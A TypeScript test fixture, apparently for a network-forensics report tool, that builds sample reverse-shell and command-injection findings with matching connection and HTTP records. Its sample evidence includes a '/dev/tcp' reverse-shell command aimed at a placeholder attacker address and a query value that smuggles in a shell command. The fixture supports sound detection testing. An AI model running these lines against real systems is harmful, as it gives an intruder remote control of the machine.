// An investigation for tests of the report: one machine with a reverse shell, asked for by a request; texts can be replaced.
import { epochMicros } from '../../src/base/units.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { Investigation, ProvenFinding } from '../../src/report/investigation.ts';
import { Observer } from '../../src/report/observe/observer.ts';
import type { Language } from '../../src/report/values.ts';

/** 2023-03-05T20:38:41Z, in microseconds. */
export const testStart = 1_678_048_721_000_000;

const at = (seconds: number) => epochMicros(testStart + seconds * 1e6);

/** A finding with every field; `changes` replaces some. */
export function testFinding(changes: Partial<Finding> = {}): Finding {
  return {
    schema: 1,
    id: 'D31-interactive-shell-00000000000001',
    detector: 'D31-interactive-shell',
    title: 'Reverse shell',
    severity: 'high',
    confidence: 0.97,
    subject: { address: '10.0.0.5' },
    peers: [{ address: '203.0.113.9', port: 4444 }],
    firstSeen: at(0),
    lastSeen: at(60),
    count: 9,
    summary: '203.0.113.9 held a session with 10.0.0.5',
    evidence: { turns: 9, thresholds: { turns: 4 } },
    attack: ['T1059.004'],
    benign: ['Chat.'],
    blindSpots: ['Shells inside TLS.'],
    records: ['CShell1'],
    ...changes,
  };
}

/** The request that broke in, as the detector of attacks tells it. */
export const testAttack = (changes: Partial<Finding> = {}): Finding =>
  testFinding({
    id: 'D44-command-injection-00000000000002',
    detector: 'D44-command-injection',
    title: 'Command injection',
    severity: 'medium',
    subject: { address: '198.51.100.66' },
    peers: [{ address: '10.0.0.5', port: 3000 }],
    evidence: {
      endpoint: '/dangerzone',
      parameter: 'category',
      decodedPayloads: ['sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      verdict: 'attempt and call-back',
    },
    records: ['CWeb1'],
    ...changes,
  });

/** A finding with a row and a packet; `uri` and `payload` are the attacker's. */
export function proven(finding: Finding, uri = '/dangerzone?category=x;sh', payload = 'id\n'): ProvenFinding {
  const ends = { 'id.orig_h': '198.51.100.66', 'id.orig_p': 40_000, 'id.resp_h': '10.0.0.5', 'id.resp_p': 3000 };
  return {
    finding,
    guide: { finds: 'A shell.', investigate: ['Look at conn in the hour before.'] },
    rows: [
      {
        log: 'http',
        row: { ts: finding.firstSeen, uid: 'CWeb1', ...ends, trans_depth: 1, method: 'GET', host: 'x', uri, status_code: 200 },
      },
    ],
    moreRows: 0,
    packets: [
      {
        source: 'c.pcap',
        number: 7,
        at: finding.firstSeen,
        summary: 'TCP 10.0.0.5:1 → 203.0.113.9:4444 PSH ACK, 3 bytes',
        bytes: new TextEncoder().encode(payload),
        payloadBytes: payload.length,
      },
    ],
  };
}

/** A whole investigation of these findings. */
export function testInvestigation(
  findings: readonly ProvenFinding[],
  language: Language = 'en',
  uri = '/dangerzone?category=x;sh',
): Investigation {
  const observer = new Observer({ local: [], known: [] });
  const conn = {
    ...{ proto: 'tcp', conn_state: 'SF', local_orig: true, local_resp: false, missed_bytes: 0, ip_proto: 6 },
    ...{ orig_pkts: 9, orig_ip_bytes: 900, resp_pkts: 9, resp_ip_bytes: 900, orig_bytes: 400, resp_bytes: 200, duration: 60 },
  } as const;
  const shell = { ts: at(0), uid: 'CShell1', 'id.orig_h': '10.0.0.5', 'id.orig_p': 40_312, 'id.resp_h': '203.0.113.9', 'id.resp_p': 4444 };
  const web = { ts: at(-1), uid: 'CWeb1', 'id.orig_h': '198.51.100.66', 'id.orig_p': 40_000, 'id.resp_h': '10.0.0.5', 'id.resp_p': 3000 };
  observer.emit('conn', { ...conn, ...shell });
  observer.emit('conn', { ...conn, ...web, service: 'http' });
  const http = { trans_depth: 1, request_body_len: 0, response_body_len: 12, tags: [] };
  observer.emit('http', { ...web, ...http, method: 'GET', host: 'shop.example', uri, status_code: 200 });
  return {
    version: '0.0.0-test',
    language,
    partial: undefined,
    ...{ firstAt: at(-1), lastAt: at(60), findings, findingsDropped: 0 },
    inputs: [
      {
        source: 'c.pcap',
        kind: 'capture',
        count: 20,
        bytes: 2000,
        sha256: 'ab'.repeat(32),
        truncatedPackets: 0,
        reportedDrops: 0,
        damages: [],
      },
    ],
    observations: observer.observations(),
    ...{ isOurs: observer.isOurs, knownAs: observer.knownAs },
    parameters: [['inputs', 'c.pcap']],
    malformedPackets: 0,
    outDirectory: 'case-1',
  };
}
